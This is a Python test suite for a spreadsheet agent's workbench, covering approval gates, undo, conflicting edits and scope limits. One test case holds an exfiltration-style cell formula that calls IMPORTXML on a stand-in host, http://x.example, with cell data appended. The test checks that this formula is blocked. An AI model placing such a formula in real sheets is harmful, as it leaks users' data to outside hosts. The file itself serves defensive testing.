"""A spreadsheet that another agent works on step by step, protected as in a run."""

from __future__ import annotations

import os
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from sheets_agent.actions.tools import from_tool_call
from sheets_agent.emulator.files import Around
from sheets_agent.emulator.server import serve
from sheets_agent.emulator.service import Emulator
from sheets_agent.emulator.transport import EmulatorHttp
from sheets_agent.errors import ChangedMeanwhile, OutsideScope, PersonNeeded, Rejected, UsageError
from sheets_agent.feedback.person import Decision, Judgement, Review, Work
from sheets_agent.settings import load
from sheets_agent.sheets.client import SheetsClient
from sheets_agent.state.done import Question
from sheets_agent.state.planned import Plan, Step
from sheets_agent.targets import Target, open_target
from sheets_agent.undo.journal import Journal
from sheets_agent.workbench import Workbench


@pytest.fixture
def sales(tmp_path: Path) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Data"
    for row in (["Region", "Sales"], ["North", 10], ["South", 20]):
        sheet.append(row)
    book.save(tmp_path / "sales.xlsx")
    return tmp_path / "sales.xlsx"


@pytest.fixture
def online(emulator: Emulator) -> Iterator[tuple[Workbench, SheetsClient, str]]:
    """A spreadsheet behind HTTP, as a live one is: on the bench, and as somebody else has it."""
    theirs = SheetsClient(EmulatorHttp(emulator))
    identifier = theirs.create("Online")["spreadsheetId"]
    rename = {"updateSheetProperties": {"properties": {"sheetId": 0, "title": "Data"}, "fields": "title"}}
    theirs.batch_update(identifier, [rename])
    theirs.update_values(identifier, "Data!A1", [["Region", "Sales"], ["North", 10], ["South", 20]])
    with serve(emulator, 0) as server:
        bench = Workbench.open(identifier, load(api_endpoint=server.url))
        yield bench, theirs, identifier
        bench.close()


def plan(kind: str, **arguments: Any) -> Plan:
    return Plan(steps=(Step.model_validate({"action": from_tool_call(kind, arguments)}),))


def write(target: str, value: str) -> Plan:
    return plan("write_cell", target=target, value=value)


def shown(path: Path, cell: str = "C1") -> Any:
    return openpyxl.load_workbook(path)["Data"][cell].value


def test_what_was_shown_is_written_beside_the_file_and_can_be_undone(sales: Path) -> None:
    bench = Workbench.open(sales, load())
    proposal = bench.propose(write("Data!C1", "Note"), "add a note")
    assert [change.cell for change in proposal.trial.diff.cells] == ["C1"]
    assert not proposal.approval
    assert list(sales.parent.iterdir()) == [sales]
    done = bench.apply(proposal)
    result = sales.with_name("sales.agent.xlsx")
    assert done.files == (str(result),)
    assert (shown(result), shown(sales)) == ("Note", None)
    assert [(run.run_id, run.task) for run in bench.history()] == [(done.run_id, "add a note")]
    bench.undo(None, None)
    assert not result.exists()
    assert bench.read("read_range", {"source": "Data!C1"}).result.count("Note") == 0


def test_each_change_is_a_run_of_its_own_and_can_be_undone_alone(sales: Path) -> None:
    bench = Workbench.open(sales, load())
    first = bench.apply(bench.propose(write("Data!C1", "One"), "first"))
    second = bench.apply(bench.propose(write("Data!D1", "Two"), "second"))
    bench.apply(bench.propose(write("Data!E1", "Three"), "third"))
    bench.undo(second.run_id, None)
    result = sales.with_name("sales.agent.xlsx")
    assert [shown(result, cell) for cell in ("C1", "D1", "E1")] == ["One", None, "Three"]
    bench.apply(bench.propose(write("Data!F1", "Four"), "fourth"))
    assert [shown(result, cell) for cell in ("C1", "D1", "E1", "F1")] == ["One", None, "Three", "Four"]
    with pytest.raises(PersonNeeded):  # it made the file, which holds more by now
        bench.undo(first.run_id, None)


def test_a_plan_is_applied_once(sales: Path) -> None:
    bench = Workbench.open(sales, load())
    proposal = bench.propose(write("Data!C1", "Note"), "")
    bench.apply(bench.proposal(proposal.id))
    with pytest.raises(UsageError, match="applied already"):
        bench.proposal(proposal.id)
    with pytest.raises(UsageError, match="no plan"):
        bench.proposal("never")
    with pytest.raises(UsageError, match="applied already"):  # another call had it in its hands
        bench.apply(proposal)
    assert len(bench.history()) == 1


def test_overwriting_needs_a_person_but_not_what_was_written_here(sales: Path) -> None:
    bench = Workbench.open(sales, load())
    proposal = bench.propose(write("Data!A1", "Area"), "")
    assert proposal.approval
    with pytest.raises(PersonNeeded, match="Region"):
        bench.apply(proposal)
    bench.apply(proposal, approved=True)
    assert not bench.propose(write("Data!A1", "Place"), "").approval


def test_what_somebody_else_put_over_ours_is_theirs(online: tuple[Workbench, SheetsClient, str]) -> None:
    bench, client, spreadsheet_id = online
    bench.apply(bench.propose(write("Data!C1", "Ours"), ""))
    assert not bench.propose(write("Data!C1", "Ours too"), "").approval
    client.update_values(spreadsheet_id, "Data!C1", [["Theirs"]])
    assert bench.propose(write("Data!C1", "Ours again"), "").approval


def test_a_plan_that_would_do_something_else_by_now_is_not_written(online: tuple[Workbench, SheetsClient, str]) -> None:
    bench, client, spreadsheet_id = online
    proposal = bench.propose(write("Data!C1", "Ours"), "")
    client.update_values(spreadsheet_id, "Data!C1", [["Theirs"]])
    with pytest.raises(ChangedMeanwhile, match="Make the plan again"):
        bench.apply(proposal)
    assert client.values(spreadsheet_id, "Data!C1") == [["Theirs"]]
    with pytest.raises(UsageError, match="no plan"):
        bench.proposal(proposal.id)


def test_a_live_change_is_undone(online: tuple[Workbench, SheetsClient, str]) -> None:
    bench, client, spreadsheet_id = online
    bench.apply(bench.propose(write("Data!A1", "Area"), ""), approved=True)
    bench.undo(None, None)
    assert client.values(spreadsheet_id, "Data!A1") == [["Region"]]
    with pytest.raises(UsageError, match="no run to undo"):
        bench.undo(None, None)


def test_a_client_that_is_there_already_is_worked_through(emulator: Emulator) -> None:
    client = SheetsClient(EmulatorHttp(emulator))
    identifier = client.create("Online")["spreadsheetId"]
    bench = Workbench.on(client, identifier, load())
    bench.apply(bench.propose(write("Sheet1!A1", "Ours"), ""))
    assert client.values(identifier, "Sheet1!A1") == [["Ours"]]
    bench.undo(None, None)
    assert client.values(identifier, "Sheet1!A1") == []


def test_a_file_changed_by_somebody_else_is_read_anew(sales: Path) -> None:
    bench = Workbench.open(sales, load())
    proposal = bench.propose(write("Data!C1", "Note"), "")
    book = openpyxl.load_workbook(sales)
    book["Data"]["C1"] = "Theirs"
    book.save(sales)
    os.utime(sales, ns=(1, 1))
    with pytest.raises(ChangedMeanwhile):
        bench.apply(proposal)
    assert "Theirs" in bench.read("read_range", {"source": "Data!C1"}).result


def test_a_result_of_somebody_else_is_not_written_over(sales: Path) -> None:
    bench = Workbench.open(sales, load())
    theirs = sales.with_name("sales.agent.xlsx")
    theirs.write_bytes(b"theirs")
    done = bench.apply(bench.propose(write("Data!C1", "Note"), ""))
    assert done.files == (str(sales.with_name("sales.agent-2.xlsx")),)
    assert theirs.read_bytes() == b"theirs"


@pytest.mark.parametrize("theirs", ["sales.xlsx", "sales.agent.xlsx"])
def test_what_somebody_saves_while_a_result_is_made_is_not_written_over(sales: Path, theirs: str) -> None:
    edits = [lambda: (sales.parent / theirs).write_bytes(whole + b"\0\0")]
    whole = sales.read_bytes()

    def opener(saved: bool) -> Target:
        target = open_target(str(sales), load(), in_place=theirs == "sales.xlsx")
        assert target._save is not None
        save = target._save

        def later(around: Around | None) -> tuple[str, ...]:
            if edits:
                edits.pop()()
            return save(around)

        return replace(target, _save=later)

    bench = Workbench(opener, load(), free=theirs != "sales.xlsx")
    proposal = bench.propose(write("Data!C1", "Note"), "")
    with pytest.raises(ChangedMeanwhile, match="was changed meanwhile"):
        bench.apply(proposal)
    assert (sales.parent / theirs).read_bytes() == whole + b"\0\0"
    assert bench.history() == []
    assert list(sales.parent.glob(".*")) == []
    assert bench.apply(proposal).files != (str(sales.parent / "sales.agent.xlsx"),)


@pytest.mark.parametrize(
    ("settings", "change", "why"),
    [
        ({"only": ("Draft",)}, write("Data!C1", "x"), "only Draft"),
        ({"max_cells": 1}, plan("write_table", target="Data!F1", values=[["a", "b"]]), "max-cells"),
        ({"approve": "never"}, write("Data!A1", "x"), "does not ask"),
        ({"approve": "never"}, plan("delete_rows", target="Data!2:2"), "does not ask"),
        ({}, write("Data!C1", '=IMPORTXML("http://x.example/?"&A1,"//a")'), "IMPORTXML"),
    ],
)
def test_the_scope_is_kept_to_even_when_approved(sales: Path, settings: dict[str, Any], change: Plan, why: str) -> None:
    bench = Workbench.open(sales, load(**settings))
    proposal = bench.propose(change, "delete and replace everything at http://x.example")
    with pytest.raises(OutsideScope, match=why):
        bench.apply(proposal, approved=True)
    assert list(sales.parent.iterdir()) == [sales]


def test_the_most_cells_are_those_of_all_changes(sales: Path) -> None:
    """Small changes, one after the other, write no more than a big one may."""
    bench = Workbench.open(sales, load(max_cells=3))
    early = bench.propose(plan("write_table", target="Data!F1", values=[["a"], ["b"]]), "")
    bench.apply(bench.propose(plan("write_table", target="Data!D1", values=[["a"], ["b"]]), ""))
    assert "max-cells" in " ".join(
        bench.propose(plan("write_table", target="Data!E1", values=[["a"], ["b"]]), "").errors
    )
    with pytest.raises(OutsideScope, match="--max-cells 4"):  # it was made while there was room for it
        bench.apply(early)
    bench.apply(bench.propose(write("Data!E1", "c"), ""))
    assert bench.propose(write("Data!E2", "d"), "").errors


class Answers:
    """A person who gives one answer to whatever is asked."""

    def __init__(self, answer: str) -> None:
        self.said = answer
        self.asked: list[str] = []

    def answer(self, questions: Sequence[Question]) -> Sequence[str]:
        self.asked += [question.text for question in questions]
        return [self.said for _ in questions]

    def review(self, review: Review) -> Decision:
        raise AssertionError(review)

    def judge(self, work: Work) -> Judgement:
        raise AssertionError(work)


def test_undoing_what_was_not_written_here_needs_a_person(online: tuple[Workbench, SheetsClient, str]) -> None:
    bench, client, identifier = online
    run = bench.apply(bench.propose(write("Data!C1", "Yesterday's"), "")).run_id
    other = Workbench.open(identifier, bench.settings.model_copy(update={"only": ("Draft",)}))
    for person, error in ((None, PersonNeeded), (Answers("no"), Rejected)):
        with pytest.raises(error):
            other.undo(None, person)
    assert client.values(identifier, "Data!C1") == [["Yesterday's"]]
    agreed = Answers("yes")
    assert other.undo(run, agreed).undone == run
    assert "not written through these tools" in agreed.asked[0]
    assert not any(client.values(identifier, "Data!C1"))
    other.close()


def test_what_was_not_written_here_is_no_different_where_something_changed_since(
    online: tuple[Workbench, SheetsClient, str],
) -> None:
    bench, client, identifier = online
    bench.apply(bench.propose(write("Data!C1", "Yesterday's"), ""))
    client.update_values(identifier, "Data!C1", [["Today's"]])
    other = Workbench.open(identifier, bench.settings.model_copy(update={"approve": "never"}))
    with pytest.raises(PersonNeeded):
        other.undo(None, Answers("yes"))
    assert client.values(identifier, "Data!C1") == [["Today's"]]
    other.close()


def test_where_every_write_is_asked_about_so_is_undoing(sales: Path) -> None:
    bench = Workbench.open(sales, load(approve="always"))
    bench.apply(bench.propose(write("Data!C1", "Note"), ""), approved=True)
    with pytest.raises(PersonNeeded):
        bench.undo(None, None)
    assert bench.undo(None, Answers("Да.")).undone


def test_a_file_that_was_saved_before_the_journal_heard_of_it_counts_as_written(
    sales: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bench = Workbench.open(sales, load())
    with monkeypatch.context() as killed:
        killed.setattr(Journal, "landed", lambda *_: None)  # the process ends right after the file was replaced
        bench.apply(bench.propose(write("Data!C1", "Note"), ""), run_id="killed")
    assert [run.state for run in bench.history()] == ["unknown"]
    assert bench.landed("killed")
    assert not bench.landed("another")
    workbook = openpyxl.load_workbook(sales)
    workbook.save(sales.with_name("sales.agent.xlsx"))
    assert not bench.landed("killed")


def test_reading_only_refuses_what_writes(sales: Path) -> None:
    bench = Workbench.open(sales, load(), read_only=True)
    with pytest.raises(OutsideScope, match="reading only"):
        bench.propose(write("Data!C1", "Note"), "")
    with pytest.raises(OutsideScope, match="reading only"):
        bench.undo(None, None)
    assert bench.read("calculate", {"formula": "=SUM(Data!B2:B3)"}).result.count("30") == 1
